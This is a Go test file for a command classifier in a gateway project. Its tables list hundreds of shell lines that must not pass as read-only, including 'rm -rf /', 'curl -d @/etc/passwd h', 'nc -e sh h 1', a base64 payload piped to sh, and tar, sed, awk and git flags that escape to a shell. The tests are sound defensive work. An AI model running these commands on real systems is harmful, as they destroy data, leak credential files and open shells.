package argv_test

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/hoop-gateway/hoop/pkg/argv"
)

func line(t *testing.T, text string) *argv.Line {
	t.Helper()
	l, err := argv.Parse(text, argv.Limits{})
	if err != nil {
		t.Fatalf("%q: %v", text, err)
	}
	return l
}

// effects are a line's, sorted, without what reads and does nothing: "" is a line that only reads.
func effects(t *testing.T, text string, s argv.Setting) string {
	t.Helper()
	var out []string
	for _, a := range argv.Reviewed().Judge(line(t, text), s).Accesses {
		if a.Effect != argv.Read && a.Effect != argv.Session {
			out = append(out, string(a.Effect))
		}
	}
	slices.Sort(out)
	return strings.Join(slices.Compact(out), " ")
}

var pipes = argv.Setting{NoTerminal: true}

// TestWhatChangesOrEscapesIsNeverMerelyRead: each line does something that a rule for reading must not let through.
func TestWhatChangesOrEscapesIsNeverMerelyRead(t *testing.T) {
	for what, lines := range map[string][]string{
		"a second command behind a harmless one": {"ls; rm -rf /", "ls && rm x", "ls || rm x", "ls | rm x", "ls & rm x", "ls\nrm x", "( ls; rm x )", "{ ls; rm x; }", "if ls; then rm x; fi", "while ls; do rm x; done", "for i in 1; do rm x; done", "! rm x"},
		"a command in a substitution":            {"ls $(rm x)", "ls \"$(rm x)\"", "ls `rm x`", "cat <(rm x)", "ls ${x:-$(rm x)}", "ls $((x[$(rm x)]))", "X=$(rm x) ls"},
		"a program that is not known":            {"$SHELL", "\"$x\" y", "$(echo rm) x", "/tmp/ls", "./ls", "../bin/ls", "/usr/bin/../../tmp/ls", "/usr/local/bin/ls", "~/ls", "l? x", "nosuchprogram", "''"},
		"a redirection that writes":              {"ls > x", "ls >> x", "ls >| x", "ls <> x", "ls 2> x", "ls > $x", "ls > *.x", "echo x > /dev/sda", "echo x > /dev/tcp/192.0.2.1/80", "cat < /dev/tcp/192.0.2.1/80", "ls &> x", "{ ls; } > x", "echo 1 > /proc/sys/x"},
		"a variable that changes what runs":      {"LD_PRELOAD=/tmp/x ls", "PATH=/tmp ls", "PATH=/tmp; ls", "IFS=x; ls", "BASH_ENV=x ls", "ENV=x ls", "PAGER=x man ls", "LC_ALL=/tmp/x ls", "env LD_PRELOAD=x ls", "sudo X=1 ls", "for PATH in /tmp; do ls; done", "TERMINFO=/tmp ls"},
		"a word that changes the shell":          {"eval ls", ". ./x", "source x", "alias ls=rm", "alias ls=rm\nls", "trap x EXIT", "set -f", "shopt -s extglob", "enable -f x ls", "hash -p /tmp/x ls", "command eval ls", "builtin eval ls", "exec 3>x", "f() { rm x; }; f", "function ls { rm x; }", "export PATH=/tmp", "read x", "printf -v PATH x", "jobs -x ls", "unset PATH", "exec", "mapfile x"},
		"a subscript that some shells compute":   {"[ -v 'x[$(rm y)]' ]", "test 'x[$(rm y)]' -eq 1", "printf %d 'x[$(rm y)]'", "exit 'x[`rm y`]'"},
		"a wrapper around a command":             {"sudo ls", "sudo -u root rm x", "doas ls", "env rm x", "env -S 'rm x'", "env -i rm x", "xargs rm", "xargs -n1 rm", "nice rm x", "nice -n 5 rm x", "ionice -c2 rm x", "nohup ls", "timeout 5 rm x", "timeout -k 1 5 rm x", "time rm x", "stdbuf -oL rm x", "setsid rm x", "chroot /x ls", "flock /tmp/l ls", "watch rm x", "watch 'ls; rm x'", "busybox rm x", "busybox sh", "command rm x", "exec rm x", "nice nice nice rm x", "su -c ls", "su - root", "runuser -u x ls", "systemd-run ls", "unshare ls", "nsenter -t 1 ls"},
		"a flag of a wrapper that is not known":  {"timeout --unknown 5 ls", "nice --foo ls", "env --chdir=/tmp ls", "sudo -i", "sudo -s", "xargs --foo ls", "xargs -i ls", "timeout 5 -x ls", "watch -x ls", "stdbuf -x ls", "command -x ls"},
		"words from the input":                   {"xargs find", "xargs sort", "xargs sh -c", "xargs -I{} {} x", "xargs -I% sh -c 'cat %'", "xargs env", "xargs sed"},
		"a shell":                                {"sh", "bash", "bash -i", "sh x.sh", "bash -c 'rm x'", "bash -c \"$x\"", "sh -c 'ls; rm x'", "bash -lc 'rm x'", "sh -s", "bash -o errexit", "bash --rcfile x", "sh -c 'sh -c \"rm x\"'", "echo x | sh", "echo cm0geA== | base64 -d | sh", "sh <<E\nrm x\nE", "zsh -c 'rm x'", "dash -c 'echo x >y'"},
		"another machine":                        {"ssh h", "ssh h ls", "ssh h rm x", "ssh -o ProxyCommand=x h", "ssh -oProxyCommand=x h", "scp x h:", "rsync -e sh x h:", "rsync x y", "curl http://h", "curl -d @/etc/passwd h", "curl -T x h", "wget h", "nc h 1", "nc -e sh h 1", "socat x y", "telnet h", "tar tf h:x", "tar -tf h:x", "tar --list --file=h:x", "dig -f x", "nslookup", "docker exec c ls", "kubectl exec p -- ls", "kubectl exec p -- rm x", "kubectl cp p:x y", "systemctl -H h status", "openssl s_client -connect h:1"},
		"find":                                   {"find . -delete", "find . -exec rm {} +", "find . -exec rm {} ';'", "find . -execdir sh -c x ';'", "find . -ok rm {} ';'", "find . -fprint x", "find . -fprintf x %p", "find . -fls x", "find . -fprint0 x", "find . -exec cat {} ';' -delete", "find . -name -delete -delete", "find -ok sort {} + -o f ';'", "find -files0-from x", "find . -exec {} ';'", "find . $x", "find . -exec sh -c 'rm {}' ';'"},
		"tar":                                    {"tar xf x", "tar -xf x", "tar cf x y", "tar tf x --checkpoint=1 --checkpoint-action=exec=sh", "tar tf x --checkpoint-act=exec=sh", "tar tf x --to-command=sh", "tar tf x --to-c=sh", "tar -tIsh -f x", "tar -t -I sh -f x", "tar tf x -I sh", "tar tf x --use-compress-program=sh", "tar tf x --info-script=sh", "tar tf x -F sh", "tar tf x --rsh-command=sh", "tar tfI x sh", "tar tvIf sh x", "tar --delete -f x y", "tar f x", "tar tf x -x", "tar -f x --extract"},
		"awk":                                    {"awk 'BEGIN{system(\"sh\")}'", "awk 'BEGIN{print \"x\" | \"sh\"}'", "awk 'BEGIN{\"sh\" | getline}'", "awk '{print > \"x\"}'", "awk '{print $1 > $2}'", "awk '{printf \"x\" >> \"y\"}'", "awk -f x", "gawk -l x 'BEGIN{}'", "gawk -i inplace '{print}' f", "gawk 'BEGIN{@f()}'", "gawk '@load \"x\"'", "awk \"$x\"", "awk -e 'BEGIN{}'", "mawk -W exec x", "awk 'BEGIN{print \"a\" |& \"sh\"}'", "gawk -o '{}' x"},
		"sed":                                    {"sed -i s/a/b/ f", "sed -ibak s/a/b/ f", "sed -n -i p f", "sed -ni p f", "sed --in-place s/a/b/ f", "sed --in-pl s/a/b/ f", "sed 1e f", "sed '1e id' f", "sed 's/a/b/e' f", "sed 's/a/id/ge' f", "sed 's/a/b/w x' f", "sed 'w x' f", "sed -n '/a/w x' f", "sed 'p;w x' f", "sed 's/a/b/;w x' f", "sed 's/a/b/\nw x' f", "sed -f x f", "sed -e p -e 'w x' f", "sed 's/[/]/e' f", "sed 's,a,b,e' f", "sed \"$x\" f", "sed --expression='w x' f", "sed 'sea' f", "sed 'W x' f", "sed 's/a/b/M e' f", "sed '/a/{e id\n}' f", "sed -s 'w x'"},
		"git":                                    {"git -c core.pager=sh log", "git -c alias.x='!sh' x", "git -p status", "git --exec-path=/tmp log", "git --git-dir=/tmp/x log", "git log --output=x", "git diff --output x", "git log --outp=x", "git diff --ext-diff", "git show --textconv", "git clone ext::sh x", "git clone h", "git fetch --upload-pack=sh", "git ls-remote --upload-pack=sh x", "git archive --remote=x", "git grep -O x", "git branch x", "git config x y", "git checkout x", "git log -c --output=x", "git log -n --output=x", "git log -U --output=x", "git submodule foreach sh", "git bisect run sh", "git rebase -x sh", "git x"},
		"a flag that writes":                     {"sort -o x y", "sort -ox y", "sort y -o x", "sort --output=x y", "sort --outp=x y", "sort -k 1 -o x", "sort -ro x y", "sort --compress-program=sh y", "sort --comp=sh y", "sort -T /x y", "sort -k -o x", "uniq a b", "uniq -c a b", "uniq /x/*", "xxd a b", "tree -o x", "file -C -m x", "dmesg -c", "dmesg --clear", "dmesg -Hc", "journalctl --rotate", "journalctl --vacuum-time=1d", "journalctl --cursor-file=x", "date -s x", "date 01010000", "hostname x", "hostname -F x", "sysctl -w a=b", "sysctl a=b", "sysctl -p x", "ss -K", "ss -D x", "lastlog -C", "top", "pidstat -e sh", "sar -o x", "ip link set x down", "ip -b x", "ip netns exec x sh", "ifconfig x down", "route add x", "arp -d x", "iptables -F", "iptables -L -Z", "mount x y", "crontab x", "crontab -r", "crontab -e", "fdisk x", "lsof -Dx", "curl -o x h", "curl -O h", "curl -sSo x h", "curl -w '%output{x}' h", "curl -K x", "curl --unix-socket /run/docker.sock h", "less +!sh x", "unzip x", "gzip x", "gzip -d x", "zip -T -TT sh x y", "dd if=a of=b", "dd of=b", "tee x", "man -P sh ls", "man --pager=sh ls", "split x", "split --filter=sh x", "rpm --eval '%(sh)'", "rpm -i x", "rpm --pipe sh -q x", "tcpdump -z sh -w x", "tcpdump -i any", "wget -O x h", "openssl x509 -in a -out b", "openssl enc -in a", "service x restart", "service ../../tmp/x status", "getconf -v x y", "wait -p PATH", "dpkg -i x", "dpkg -D 1 -l", "apt install x", "ping -f h", "ssh-keygen -D x", "unzip -p x -d y"},
		"a program that runs what it is told":    {"vi x", "vim -c '!sh'", "view x", "ed x", "nano x", "python x", "python3 -c x", "python3", "perl -e x", "perl -ne x f", "ruby -e x", "node -e x", "php -r x", "lua x", "make", "make -n", "psql -c '\\! sh'", "psql", "mysql -e x", "sqlite3 x '.shell sh'", "redis-cli x", "gdb -p 1", "strace ls", "screen", "tmux", "script x", "at now", "crontab -e", "ansible all -m shell", "npm run x", "pip install x", "docker run x", "gcc x", "expect x", "htop", "parallel ls", "java x", "openssl engine x"},
		"who may do what":                        {"chmod 777 x", "chown a x", "setfacl -m x y", "useradd x", "passwd", "usermod x", "chattr +i x", "visudo", "setcap x y"},
		"the machine":                            {"reboot", "shutdown now", "kill 1", "kill -9 1", "pkill x", "systemctl restart x", "systemctl --no-pager stop x", "systemctl daemon-reload", "systemctl edit x", "systemctl link x", "umount x", "modprobe x", "docker rm x", "docker stop x", "kubectl delete pod x", "kubectl apply -f x", "kubectl --kubeconfig=x get pods", "kubectl scale x"},
		"quotes that shells read differently":    {"ls $'x'", "ls $\"x\"", "ls {a,b}", "ls =x", "ls a\\\nb", "ls #x", "ls x # y", "ls @(a|b)", "ls <<<x", "ls é", "time -p ls", "! ! ls", "10>x ls", "cat <<-E\n\tx\n\tE", "[[ x ]]", "ls ${x//a/b}", "((1))", "ls 2>&1>x", "select x in a; do ls; done", "coproc ls", "case x in x) ls;; esac"},
	} {
		for _, text := range lines {
			if got := effects(t, text, pipes); got == "" {
				t.Errorf("%s: %q passes as one that reads", what, text)
			}
		}
	}
}

// TestWhatReadsIsRead: what people look at a machine with must not need more than the right to read.
func TestWhatReadsIsRead(t *testing.T) {
	for _, text := range []string{
		"ls -la /var/log", "ls -l /var/log/*.log", "tail -n 100 /var/log/syslog | grep -i error | wc -l", "cat /etc/os-release", "df -h", "du -sh /var/*",
		"ps aux --sort=-%mem | head -n 10", "free -m", "uptime", "systemctl status nginx --no-pager", "systemctl list-units --failed", "journalctl -u nginx -n 50 --no-pager",
		"ip -br addr", "ip route get 192.0.2.1", "ss -tlnp", "find /var/log -name '*.gz' -mtime +7", "find . -type f -exec ls -l {} +", "awk '{print $1}' x", "awk -F: '$3 >= 1000 {print $1}' /etc/passwd",
		"sed -n '1,10p' x", "sed 's/a/b/g' x", "sort -k 2 -rn x | uniq -c", "docker ps -a", "docker logs --tail 100 web", "kubectl -n prod get pods -o wide", "git log --oneline -n 5",
		"date +%s", "hostname -f", "tar tzf x.tgz", "unzip -l x.zip", "crontab -l", "timeout 5 ls", "nice -n 10 du -sh /", "xargs -n1 ls", "bash -c 'ls; df -h'", "cat x 2>/dev/null", "ls 2>&1 | head",
		"[ -f x ] && cat x", "LANG=C ls", "LC_ALL=en_US.UTF-8 sort x", "echo $HOME", "ls $HOME", "cat <<E\nhello\nE", "dpkg -l nginx", "service nginx status", "top -bn1", "command -v nginx", "python3 --version",
		"/usr/bin/systemctl is-active nginx", "iptables -L -n -v", "if [ -f x ]; then cat x; fi", "watch -n 1 'df -h'", "ping -c 3 192.0.2.1", "dmesg -T | tail", "env", "sysctl -n vm.swappiness", "mount | grep ext4",
	} {
		if got := effects(t, text, pipes); got != "" {
			t.Errorf("%q has the effects %s", text, got)
		}
	}
}

func TestAtATerminalAPagerRunsAnything(t *testing.T) {
	for text, want := range map[string]string{
		"systemctl status x": "execute", "systemctl --no-pager status x": "", "systemctl status x --no-pager": "", "journalctl": "execute", "git log": "execute",
		"git --no-pager log": "", "less x": "execute", "man ls": "execute", "ls": "", "cat x": "", "dpkg -l": "execute",
	} {
		if got := effects(t, text, argv.Setting{}); got != want {
			t.Errorf("%q has the effects %q at a terminal, want %q", text, got, want)
		}
	}
}

func TestAnUnclearLineAndAZeroLineAreUnknown(t *testing.T) {
	for _, l := range []*argv.Line{{}, line(t, "ls `x`")} {
		found := argv.Reviewed().Judge(l, argv.Setting{})
		if len(found.Accesses) != 1 || found.Accesses[0].Effect != argv.Unknown || len(found.Runs) > 0 || l.Known() {
			t.Errorf("%+v: %+v", l, found)
		}
	}
}

// TestAccessesNameTheirPrograms: pairs are what rules speak of.
func TestAccessesNameTheirPrograms(t *testing.T) {
	found := argv.Reviewed().Judge(line(t, "sudo /usr/bin/systemctl restart x > f; xargs rm"), argv.Setting{NoTerminal: true})
	got := ""
	for _, a := range found.Accesses {
		got += fmt.Sprintf("%s %s, ", a.Effect, a.Object)
	}
	if want := "write >, privilege sudo, admin systemctl, session xargs, delete rm, "; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
	var runs []string
	for _, c := range found.Runs {
		runs = append(runs, c.Args[0].Value)
	}
	if want := []string{"sudo", "/usr/bin/systemctl", "xargs", "rm"}; !slices.Equal(runs, want) {
		t.Errorf("runs %q, want %q", runs, want)
	}
}

func TestScriptsInScriptsEnd(t *testing.T) {
	text := "rm x"
	for range 7 {
		text = argv.Quote([]string{"sh", "-c", text})
	}
	if len(text) > 16<<10 {
		t.Fatal(len(text))
	}
	found := argv.Reviewed().Judge(line(t, text), argv.Setting{Limits: argv.Limits{Depth: 3}})
	if !slices.ContainsFunc(found.Accesses, func(a argv.Access) bool { return a.Effect == argv.Unknown }) {
		t.Errorf("a script seven deep was understood: %+v", found.Accesses)
	}
}

func TestAPolicyCanExtendTheTable(t *testing.T) {
	own, err := argv.Reviewed().With("/opt/app/health,appctl : read\n\t-v --json\nappctl restart : admin any\nsystemctl status : read\n")
	if err != nil {
		t.Fatal(err)
	}
	for text, want := range map[string]argv.Effect{
		"/opt/app/health --json": argv.Read, "/opt/app/health --fix": argv.Unknown, "/tmp/health": argv.Unknown, "appctl restart": argv.Admin, "appctl x": argv.Unknown,
	} {
		if found := own.Judge(line(t, text), pipes); found.Accesses[0].Effect != want {
			t.Errorf("%q: %+v, want %s", text, found.Accesses, want)
		}
	}
	if found := argv.Reviewed().Judge(line(t, "appctl restart"), pipes); found.Accesses[0].Effect != argv.Unknown {
		t.Errorf("the reviewed table was changed: %+v", found.Accesses)
	}
	for _, wrong := range []string{"x", "x : reed", "x : read\n\tfoo", "\t-x", "x : read\n\t-ab:", "x y : read", "x : read\nx : read", "x : read\n\t-a -a", "x : wrap foo",
		"x : any", "x : nopager", "x : read\n\toperand = read", "x : read\n\toperand", "x : read\n\t= read", "x : read\n\tonly = read", "x : read\n\tonly -v =", "x : read\n\t#0 = write",
		"x : read\n\t-o: = write if", "x : session wrap skip=-1", "x : session wrap bare=nopager", "x : read\n\tnone"} {
		if _, err := argv.Reviewed().With(wrong); err == nil {
			t.Errorf("%q was taken", wrong)
		}
	}
}

// TestEveryEffectOfTheTableIsInTheReference: the page has the table of this version.
func TestTheReferenceHasTheTable(t *testing.T) {
	page, err := os.ReadFile("../../docs/reference/argv.md")
	if err != nil {
		t.Fatal(err)
	}
	const begin, end = "<!-- programs -->\n", "<!-- end of programs -->"
	_, rest, ok := strings.Cut(string(page), begin)
	table, _, closed := strings.Cut(rest, end)
	if want := argv.Reviewed().Markdown(); !ok || !closed || table != want {
		if os.Getenv("UPDATE") != "" && ok && closed {
			text := strings.Replace(string(page), begin+table+end, begin+want+end, 1)
			if err := os.WriteFile("../../docs/reference/argv.md", []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			return
		}
		t.Error("docs/reference/argv.md has another table: UPDATE=1 go test ./pkg/argv -run Reference writes it")
	}
}
